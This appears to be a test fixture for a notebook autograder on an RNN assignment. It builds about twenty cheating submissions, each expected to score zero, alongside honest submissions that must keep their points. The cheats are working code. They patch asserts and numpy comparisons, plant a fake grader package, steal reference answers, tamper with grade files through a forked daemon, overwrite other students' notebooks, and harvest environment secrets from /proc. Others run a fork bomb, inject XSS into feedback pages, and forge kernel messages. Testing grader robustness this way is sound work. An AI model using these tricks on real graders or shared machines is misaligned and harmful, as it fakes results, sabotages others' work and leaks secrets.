"""Hostile a1 submissions, and honest ones that must keep their exact points.

`make_adversarial(release, source)` returns `student -> (notebook, expected points
per test cell in PARTS order)`. A cheat puts its trick in an extra code cell right
after the imports cell (extra cells are allowed) or in its answer cells, and solves
nothing honestly, so it must get 0 for every part. Honest students are named `h_*`,
cheats `c*_`, so that (students being graded in name order) the honest ones run
after every cheat: a trick that outlives its kernel would have its chance on them.

Strings the feedback pages must never show (the grader's `check(`, its package
name, ...) are never written literally here: a student's own code is shown on
its page, and the test must catch leaks, not the cheat's own source.
"""
from __future__ import annotations

from pathlib import Path

import nbformat

from autograder.grading.notebooks import nbgrader_meta
from submissions import ANSWER, fill, solution_code

PARTS = ["test_rnn_cell_forward", "test_rnn_forward", "test_rnn_params_from_torch", "test_sequence_cross_entropy"]
FULL = [20, 25, 20, 20]
ZERO = [0, 0, 0, 0]
MARKER = "ADVX-marker"  # in the command line of every helper process a cheat starts
CANARY_FILE = "notes.txt"  # placed by the test in an honest student's folder
CANARY_FILE_TEXT = "canary-file-5f3e1d"  # its content: must never reach a report


def with_extra(nb: nbformat.NotebookNode, code: str, after: str = "imports", kind: str = "code") -> nbformat.NotebookNode:
    """`nb` with an extra (student) cell right after the cell `after`."""
    maker = nbformat.v4.new_code_cell if kind == "code" else nbformat.v4.new_markdown_cell
    index = next(k for k, c in enumerate(nb.cells) if nbgrader_meta(c).get("grade_id") == after)
    nb.cells.insert(index + 1, maker(code))
    return nb


# --- the tricks ---------------------------------------------------------------------

INPUT_TRANSFORMER = r'''
import re
import numpy as np

def _cheat_lines(lines):
    """Remove every assert, neutralise raise, and define plausible-looking answers."""
    out = []
    for line in lines:
        stripped = line.lstrip()
        indent = line[:len(line) - len(stripped)]
        if stripped.startswith("assert") or stripped.startswith("raise"):
            out.append(indent + "pass\n")
        else:
            out.append(line)
    out.append("\n")
    out.append("def rnn_cell_forward(x_t, h_prev, *a, **k):\n    return np.zeros_like(h_prev)\n")
    out.append("def rnn_forward(x, h0, params):\n"
               "    B, T = x.shape[:2]\n"
               "    return np.zeros((B, T, h0.shape[1])), np.zeros((B, T, params['bias_y'].shape[0]))\n")
    out.append("def sequence_cross_entropy(logits, targets):\n    return 0.0\n")
    out.append("def rnn_params_from_torch(rnn, head):\n    return {}\n")
    return out

get_ipython().input_transformers_cleanup.append(_cheat_lines)
get_ipython().input_transformers_post.append(_cheat_lines)
print("input transformers installed")
'''

AST_TRANSFORMER = r'''
import ast

class _Cheat(ast.NodeTransformer):
    """Asserts vanish, every comparison is True, every raise is a pass."""
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Raise(self, node):
        return ast.Pass()
    def visit_Compare(self, node):
        return ast.copy_location(ast.Constant(True), node)

get_ipython().ast_transformers.append(_Cheat())
print("AST transformer installed")
'''

PRE_RUN_CELL = r'''
import numpy as np

def _always_true(*a, **k):
    return True

def _cheat(*args):
    ip = get_ipython()
    np.allclose = _always_true
    np.array_equal = _always_true
    np.isclose = lambda a, b, *x, **k: np.ones(np.shape(a), bool)
    np.testing.assert_allclose = lambda *a, **k: None
    np.testing.assert_array_equal = lambda *a, **k: None
    ip.user_ns["rnn_cell_forward"] = lambda x_t, h_prev, *a, **k: np.zeros_like(h_prev)
    ip.user_ns["rnn_forward"] = lambda x, h0, p: (np.zeros(x.shape[:2] + h0.shape[1:]),) * 2
    ip.user_ns["sequence_cross_entropy"] = lambda logits, targets: 0.0
    ip.user_ns["rnn_params_from_torch"] = lambda rnn, head: {}

get_ipython().events.register("pre_run_cell", _cheat)
get_ipython().events.register("post_run_cell", _cheat)
get_ipython().events.register("pre_execute", _cheat)
print("event callbacks installed")
'''

FAKE_PACKAGE = r'''
import importlib, os, sys, types
_pkg = "auto" + "grader"
os.makedirs(_pkg, exist_ok=True)
with open(os.path.join(_pkg, "__init__.py"), "w") as f:
    f.write("")
with open(os.path.join(_pkg, "course.py"), "w") as f:
    f.write("def " + "che" + "ck(*a, **k):\n    return None\n"
            "def judge(*a, **k):\n    return 1.0\n"
            "CASES = {}\n")
for _d in ("grader", "grader/engine", "grader/engine/runner"):
    os.makedirs(_d, exist_ok=True)
    with open(_d + "/__init__.py", "w") as f:
        f.write("")
with open("grader/engine/runner/collect.py", "w") as f:
    f.write("def display_result(*a, **k):\n    print('all tests passed')\n")
sys.path.insert(0, os.getcwd())
os.environ["PYTHONPATH"] = os.getcwd()
for _name in [m for m in list(sys.modules) if m == _pkg or m.startswith(_pkg + ".")]:
    del sys.modules[_name]
_cases = importlib.import_module(_pkg + ".course")
import builtins
setattr(builtins, "che" + "ck", _cases.__dict__["che" + "ck"])
for _where in ("/opt/grader/grader/engine/runner/collect.py", "/opt/grader/grader/course/a1_rnn/calls.py"):
    try:
        with open(_where, "w") as f:
            f.write("def display_result(*a, **k):\n    pass\n")
        print("WRO" + "TE-OK", _where)
    except OSError as error:
        print("cannot write", _where, type(error).__name__)
print("fake package ready at", os.getcwd())
'''

REFERENCE_IMPORT = r'''
try:
    from autograder.course.reference import rnn_cell_forward, rnn_forward, sequence_cross_entropy
    from autograder.course.reference import rnn_params_from_torch
    print("REFERENCE" + "-IMPORTED")
except Exception as error:
    print("no reference:", type(error).__name__)

    def rnn_cell_forward(*args):
        raise RuntimeError("the reference was not importable")

    def rnn_forward(*args):
        raise RuntimeError("the reference was not importable")

    def rnn_params_from_torch(*args):
        raise RuntimeError("the reference was not importable")

    def sequence_cross_entropy(*args):
        raise RuntimeError("the reference was not importable")
'''

DISK_SEARCH = r'''
import json, os, re, time

_found = []
_start = time.monotonic()
_seen = 0
for _base in ("/work", "/root", "/tmp", "..", "../..", "/home", "/opt", "/srv", "/mnt", "/"):
    for _dir, _subdirs, _files in os.walk(_base):
        _subdirs[:] = [d for d in _subdirs if not (_dir == "/" and d in ("proc", "sys", "dev", "usr"))]
        _seen += len(_files)
        if time.monotonic() - _start > 5 or _seen > 300000:
            break
        for _name in _files:
            if not (_name.endswith(".ipynb") or _name == "reference.py"):
                continue
            _path = os.path.join(_dir, _name)
            try:
                _text = open(_path, encoding="utf-8", errors="replace").read()
            except OSError:
                continue
            if "def rnn_cell_forward" not in _text:
                continue
            _found.append(_path)
            _sources = []
            if _name.endswith(".ipynb"):
                try:
                    _sources = ["".join(c["source"]) if isinstance(c["source"], list) else c["source"]
                                for c in json.loads(_text)["cells"] if c["cell_type"] == "code"]
                except Exception:
                    pass
            else:
                _sources = [_text]
            for _source in _sources:
                if "def rnn_" in _source or "def sequence_cross_entropy" in _source:
                    _source = re.sub(r"^[ \t]*### (BEGIN|END) SOLUTION\n", "", _source, flags=re.M)
                    try:
                        exec(_source, globals())
                    except Exception:
                        pass
print("solutions found:", len(_found))
'''

FRAME_WALK = r'''
import inspect
import numpy as np

_NAMES = ("expect", "want", "ref", "target", "truth", "answer", "correct", "torch_", "h_t", "ys", "loss")

def _steal(like=None):
    frame = inspect.currentframe().f_back.f_back
    while frame is not None:
        for name, value in list(frame.f_locals.items()):
            if any(n in name.lower() for n in _NAMES):
                if like is None and isinstance(value, (float, np.floating)):
                    return float(value)
                if like is not None and isinstance(value, np.ndarray) and value.shape == like:
                    return value.copy()
        frame = frame.f_back
    raise RuntimeError("nothing to steal")
'''
FRAME_ANSWERS = {
    "rnn_cell_forward": "def rnn_cell_forward(x_t, h_prev, weight_ih, weight_hh, bias_ih, bias_hh):\n"
                        "    return _steal(h_prev.shape)\n",
    "rnn_forward": "def rnn_forward(x, h0, params):\n"
                   "    B, T = x.shape[:2]\n"
                   "    return _steal((B, T, h0.shape[1])), _steal((B, T, params['bias_y'].shape[0]))\n",
    "rnn_params_from_torch": "def rnn_params_from_torch(rnn, head):\n"
                             "    return _steal({})\n",
    "sequence_cross_entropy": "def sequence_cross_entropy(logits, targets):\n"
                              "    return _steal()\n",
}

LIAR = r'''
import numpy as np

class Liar:
    """Equal to everything, close to everything, any shape you ask."""
    shape = property(lambda self: self)
    dtype = property(lambda self: self)
    ndim = property(lambda self: self)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __hash__(self): return 0
    def __bool__(self): return True
    def __float__(self): return 1.0
    def __int__(self): return 1
    def __index__(self): return 1
    def __len__(self): return 1
    def __iter__(self): return iter([self, self])
    def __getitem__(self, key): return self
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __array__(self, dtype=None, copy=None): return np.full((1,), 7.0)
    def __sub__(self, other): return self
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __abs__ = __neg__ = __sub__
    def __repr__(self): return "array([...])"
    def __reduce__(self): return (Liar, ())

class LyingArray(np.ndarray):
    """A zero array that says it equals everything."""
    def __eq__(self, other): return np.ones(np.shape(other), bool)
    def __array_function__(self, func, types, args, kwargs):
        if func.__name__ in ("allclose", "array_equal", "isclose"):
            return True
        return super().__array_function__(func, types, args, kwargs)

def rnn_cell_forward(x_t, h_prev, weight_ih, weight_hh, bias_ih, bias_hh):
    return Liar()

def rnn_forward(x, h0, params):
    B, T = x.shape[:2]
    return (np.zeros((B, T, h0.shape[1])).view(LyingArray),
            np.zeros((B, T, params["bias_y"].shape[0])).view(LyingArray))

def rnn_params_from_torch(rnn, head):
    return {k: Liar() for k in ("weight_ih", "weight_hh", "bias_ih", "bias_hh", "weight_hy", "bias_y")}

def sequence_cross_entropy(logits, targets):
    return Liar()
'''

CUSTOM_EXCEPTION = r'''
class TestPassed(BaseException):
    """Looks like success to whoever reads its name."""
    def __str__(self):
        return "all tests passed"

class Ok(Exception):
    pass

def rnn_cell_forward(x_t, h_prev, weight_ih, weight_hh, bias_ih, bias_hh):
    raise TestPassed()

def rnn_forward(x, h0, params):
    return Ok("passed")

def rnn_params_from_torch(rnn, head):
    raise SystemExit(0)

def sequence_cross_entropy(logits, targets):
    raise KeyboardInterrupt()
'''

BACKGROUND = r'''
import glob, os, subprocess, sys, time
MARK = "''' + MARKER + r'''"
_sleeper = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # " + MARK],
                            start_new_session=True)
print("sleeper pid", _sleeper.pid)

_DAEMON = """
import glob, os, time
MARK = %r
cwd = os.getcwd()
targets = set()
def guess():
    roots = [cwd, *[os.path.dirname(cwd.rstrip('/'))] * 1]
    p = cwd
    for _ in range(6):
        p = os.path.dirname(p)
        roots.append(p)
    for pid in os.listdir('/proc'):
        for link in ('cwd', 'root'):
            try:
                roots.append(os.readlink('/proc/%%s/%%s' %% (pid, link)))
            except OSError:
                pass
    for r in roots:
        for pat in ('reports/a1_rnn/grades.csv', 'reports/a1_rnn/feedback/*.html', 'gradebook.db',
                    'grading/reports/a1_rnn/grades.csv', 'grading/gradebook.db'):
            targets.update(glob.glob(os.path.join(r, pat)))
end = time.time() + 120
while time.time() < end:
    guess()
    for t in list(targets):
        try:
            with open(t, 'a') as f:
                f.write('HACK' + 'ED-BY-DAEMON ' + MARK)
        except OSError:
            pass
    time.sleep(0.5)
""" % MARK

if os.fork() == 0:  # double fork: a daemon that no one waits for
    os.setsid()
    if os.fork() == 0:
        try:
            os.execv(sys.executable, [sys.executable, "-c", _DAEMON, MARK])
        finally:
            os._exit(0)
    os._exit(0)
time.sleep(0.5)
print("daemon started")
'''

PROC_WALK = r'''
import glob, os
CANARY = "''' + CANARY_FILE + r'''"
_roots = set()
for pid in os.listdir("/proc"):
    for link in ("cwd", "root"):
        try:
            _roots.add(os.path.realpath("/proc/%s/%s" % (pid, link)))
            _roots.add("/proc/%s/%s" % (pid, link))
        except OSError:
            pass
_p = os.getcwd()
for _ in range(5):
    _p = os.path.dirname(_p)
    _roots.add(_p)
_hits = []
import time
_end = time.monotonic() + 6
for r in sorted(_roots):
    if time.monotonic() > _end:
        break
    for pat in ("*.ipynb", "*/*.ipynb", "*/*/*.ipynb", "*/*/*/*.ipynb", "*/" + CANARY, "*/*/" + CANARY):
        for path in glob.glob(os.path.join(r, pat)):
            if path.endswith(CANARY):
                try:
                    print("FOUND CANARY", path, open(path).read())
                except OSError:
                    pass
                continue
            try:
                with open(path, "w") as f:
                    f.write("{}")
                _hits.append(path)
            except OSError:
                pass
print("overwrote", len(_hits), "notebooks")
'''

SITE_PACKAGES = r'''
import os, site, sys
_dirs = set(site.getsitepackages() + [sys.prefix, os.path.join(sys.prefix, "lib")])
for d in sorted(_dirs):
    for name, text in (("zz_cheat.pth", "import os; os.environ['CHEATED'] = '1'\n"),
                       ("sitecustomize.py", "print('cheat sitecustomize')\n"),
                       ("usercustomize.py", "print('cheat usercustomize')\n")):
        try:
            with open(os.path.join(d, name), "w") as f:
                f.write(text)
            print("WRO" + "TE-OK", os.path.join(d, name))
        except OSError as error:
            print("cannot write", d, type(error).__name__)
import numpy
try:
    with open(numpy.__file__, "a") as f:
        f.write("\n# cheat\n")
    print("WRO" + "TE-OK numpy")
except OSError as error:
    print("cannot write numpy", type(error).__name__)
'''

NETWORK = r'''
import socket, urllib.request
for _try in (lambda: urllib.request.urlopen("http://1.1.1.1/", timeout=3).read(100),
             lambda: socket.create_connection(("1.1.1.1", 53), timeout=3),
             lambda: socket.create_connection(("8.8.8.8", 443), timeout=3),
             lambda: socket.getaddrinfo("example.com", 80)):
    try:
        print("NETWORK" + "-OK", _try())
    except Exception as error:
        print("network failed:", type(error).__name__)
'''

ENV_DUMP = r'''
import os
print(dict(os.environ))
for pid in sorted(os.listdir("/proc")):
    if pid.isdigit():
        try:
            print(pid, open("/proc/%s/environ" % pid, "rb").read().replace(b"\0", b" ")[:2000])
        except OSError as error:
            print(pid, type(error).__name__)
for path in ("/proc/1/cmdline", "/proc/self/mountinfo", "/etc/hostname"):
    try:
        print(path, open(path).read()[:3000])
    except OSError as error:
        print(path, type(error).__name__)
'''

ISINSTANCE = r'''
import builtins
_real = builtins.isinstance
builtins.isinstance = lambda obj, cls: True
builtins.hasattr = lambda obj, name: True
builtins.callable = lambda obj: True

def rnn_cell_forward(x_t, h_prev, weight_ih, weight_hh, bias_ih, bias_hh):
    return "an array, trust me"

def rnn_forward(x, h0, params):
    return "hs", "ys"

def rnn_params_from_torch(rnn, head):
    return "a dict"

def sequence_cross_entropy(logits, targets):
    return "0.0"
'''

FORK_BOMB = r'''
import os, time
MARK = "''' + MARKER + r'''"
_children = 0
for _ in range(2000):
    try:
        pid = os.fork()
    except OSError as error:
        print("fork refused after", _children, "children:", type(error).__name__)
        break
    if pid == 0:
        try:
            time.sleep(600)
        finally:
            os._exit(0)
    _children += 1
print("children started:", _children)
'''

XSS = r'''
from IPython.display import HTML, Javascript, display
print("<script>alert(1)</script>")
print('<img src=x onerror="alert(2)">')
display(HTML('<script>alert(3)</script><img src=x onerror="alert(4)"><a href="javascript:alert(5)">x</a>'
             '<iframe src="https://example.com"></iframe><svg onload="alert(6)"></svg>'))
display(Javascript("alert(7)"))
display({"text/html": '<img src="x" onerror="alert(8)">', "text/plain": "x"}, raw=True)

def rnn_cell_forward(x_t, h_prev, weight_ih, weight_hh, bias_ih, bias_hh):
    raise ValueError('<script>alert(9)</script><img src=x onerror="alert(10)">')
'''
XSS_MARKDOWN = ('# Notes <script>alert(11)</script>\n\n<img src=x onerror="alert(12)">\n\n'
                '[click](javascript:alert(13)) <a href="javascript:alert(14)">y</a>\n\n'
                '<div style="background:url(javascript:alert(15))" onclick="alert(16)">z</div>\n')


BAD_SIGNATURE = r'''
# every message the kernel sends from now on carries a signature the grader rejects
get_ipython().kernel.session.key = b"not-the-key"
print("signed with another key")
'''

HUGE_MESSAGE = r'''
# one output message far larger than the grader takes, sent straight to the channel
kernel = get_ipython().kernel
kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": "x" * 200_000_000},
                    parent=kernel.get_parent())
'''

DEEP_FOLDERS = r'''
import os
# deeper than Python's recursion limit: the grader must still clear the scratch folder
start = os.getcwd()
for _ in range(1500):
    os.mkdir("d")
    os.chdir("d")
os.chdir(start)
with open("/tmp/" + "big", "wb") as handle:  # /tmp: a folder of the scratch folder, on disk
    handle.write(b"0" * 50_000_000)
'''

HASHES = r'''
print("#" * 2_000_000)  # a line the feedback's hidden-region search must pass in one go
'''
HASHES_MARKDOWN = "#" * 1_000_000


def make_adversarial(release_path: Path, source_path: Path) -> dict[str, tuple[nbformat.NotebookNode, list[int]]]:
    release = nbformat.read(release_path, as_version=4)
    right = solution_code(nbformat.read(source_path, as_version=4))
    code = {k: v for k, v in right.items() if not k.startswith("answer_")}

    def cheat(extra: str, answers: dict[str, str] | None = None) -> nbformat.NotebookNode:
        return with_extra(fill(release, answers or {}), extra)

    # the answer cells come after the extra cell: where the extra cell defines the
    # functions, they are left empty so that the released stubs do not redefine them
    blank = {k: "# defined in the cell after the imports\n" for k in code}

    edited = fill(release, {})
    for cell in edited.cells:
        meta = nbgrader_meta(cell)
        if meta.get("grade") and meta.get("grade_id", "").startswith("test_"):
            meta["grade"] = False
            meta["points"] = 0
            cell.source = "print('all tests passed')"
        elif meta.get("solution") and cell.cell_type == "code":
            meta["points"] = 1000  # an answer cell that claims points
            meta["grade"] = True

    xss = cheat(XSS, {"rnn_cell_forward": blank["rnn_cell_forward"]})
    xss = with_extra(xss, XSS_MARKDOWN, after="rnn_cell_forward", kind="markdown")

    # --- honest students -------------------------------------------------------
    wrong_cell = code["rnn_cell_forward"].replace(" + bias_hh", "")  # forgets one bias
    assert wrong_cell != code["rnn_cell_forward"]
    unusual = {
        "rnn_cell_forward": '''
def rnn_cell_forward(x_t, h_prev, weight_ih, weight_hh, bias_ih, bias_hh):
    """Column vectors: (H, B) throughout, with einsum."""
    xc, hc = x_t.T, h_prev.T                                   # (I, B), (H, B)
    a = np.einsum("hi,ib->hb", weight_ih, xc) + weight_hh @ hc  # (H, B)
    a = a + (bias_ih + bias_hh)[:, None]
    return np.tanh(a).T.copy()
''',
        "rnn_forward": '''
def rnn_forward(x, h0, params):
    """Its own loop in column form, without rnn_cell_forward."""
    B, T, _ = x.shape
    W_ih, W_hh = params["weight_ih"], params["weight_hh"]
    b = (params["bias_ih"] + params["bias_hh"]).reshape(-1, 1)
    h = h0.T                                                    # (H, B)
    out = np.empty((T, h0.shape[1], B))
    for t in range(T):
        h = np.tanh(W_ih @ x[:, t, :].T + W_hh @ h + b)
        out[t] = h
    hs = np.ascontiguousarray(out.transpose(2, 0, 1))           # (B, T, H)
    ys = np.einsum("bth,oh->bto", hs, params["weight_hy"]) + params["bias_y"]
    return hs, ys
''',
        "rnn_params_from_torch": '''
def rnn_params_from_torch(rnn, head):
    """Through state_dicts."""
    if rnn.num_layers != 1 or rnn.bidirectional or rnn.nonlinearity != "tanh":
        raise ValueError("only one-layer unidirectional tanh RNNs")
    sd = {k: v.detach().cpu().numpy().astype(np.float64, copy=True) for k, v in rnn.state_dict().items()}
    hd = {k: v.detach().cpu().numpy().astype(np.float64, copy=True) for k, v in head.state_dict().items()}
    H, O = rnn.hidden_size, head.out_features
    return {"weight_ih": sd["weight_ih_l0"], "weight_hh": sd["weight_hh_l0"],
            "bias_ih": sd.get("bias_ih_l0", np.zeros(H)), "bias_hh": sd.get("bias_hh_l0", np.zeros(H)),
            "weight_hy": hd["weight"], "bias_y": hd.get("bias", np.zeros(O))}
''',
        "sequence_cross_entropy": '''
def sequence_cross_entropy(logits, targets):
    """log-sum-exp with np.logaddexp.reduce and take_along_axis."""
    lse = np.logaddexp.reduce(logits, axis=-1)                             # (B, T)
    picked = np.take_along_axis(logits, targets[..., None], axis=-1)[..., 0]
    return float(np.mean(lse - picked))
''',
    }
    not_impl = dict(code)
    not_impl["rnn_forward"] = ("def rnn_forward(x, h0, params):\n"
                               "    raise NotImplementedError('not done yet')\n")

    return {
        "c01_input_transformer": (cheat(INPUT_TRANSFORMER), ZERO),
        "c02_ast_transformer": (cheat(AST_TRANSFORMER), ZERO),
        "c03_pre_run_cell": (cheat(PRE_RUN_CELL), ZERO),
        "c04_fake_package": (cheat(FAKE_PACKAGE), ZERO),
        "c05_reference_import": (cheat(REFERENCE_IMPORT, blank), ZERO),
        "c06_disk_search": (cheat(DISK_SEARCH, blank), ZERO),
        "c07_frame_walk": (cheat(FRAME_WALK, FRAME_ANSWERS), ZERO),
        "c08_liar_objects": (cheat(LIAR, blank), ZERO),
        "c09_custom_exception": (cheat(CUSTOM_EXCEPTION, blank), ZERO),
        "c10_background": (cheat(BACKGROUND), ZERO),
        "c11_proc_walk": (cheat(PROC_WALK), ZERO),
        "c12_site_packages": (cheat(SITE_PACKAGES), ZERO),
        "c13_network": (cheat(NETWORK), ZERO),
        "c14_env_dump": (cheat(ENV_DUMP), ZERO),
        "c15_edited_tests": (edited, ZERO),
        "c16_isinstance": (cheat(ISINSTANCE, blank), ZERO),
        "c17_fork_bomb": (cheat(FORK_BOMB), ZERO),
        # an honest student graded right after the fork bomb: its kernel must start and get full points
        "c17z_honest_after_fork_bomb": (fill(release, {**code, "answer_parameter_sharing": ANSWER}), FULL),
        "c18_xss": (xss, ZERO),
        "c19_bad_signature": (cheat(BAD_SIGNATURE), ZERO),
        "c20_huge_message": (cheat(HUGE_MESSAGE), ZERO),
        "c21_deep_folders": (cheat(DEEP_FOLDERS), ZERO),
        "c22_hashes": (with_extra(cheat(HASHES), HASHES_MARKDOWN, after="rnn_cell_forward", kind="markdown"), ZERO),
        "h_right": (fill(release, {**code, "answer_parameter_sharing": ANSWER}), FULL),
        "h_half": (fill(release, {k: code[k] for k in ("rnn_cell_forward", "rnn_forward")}), [20, 25, 0, 0]),
        "h_wrong_a": (fill(release, {**code, "rnn_cell_forward": wrong_cell}), [0, 25, 20, 20]),
        "h_unusual": (fill(release, unusual), FULL),
        "h_not_implemented": (fill(release, not_impl), [20, 0, 20, 20]),
    }
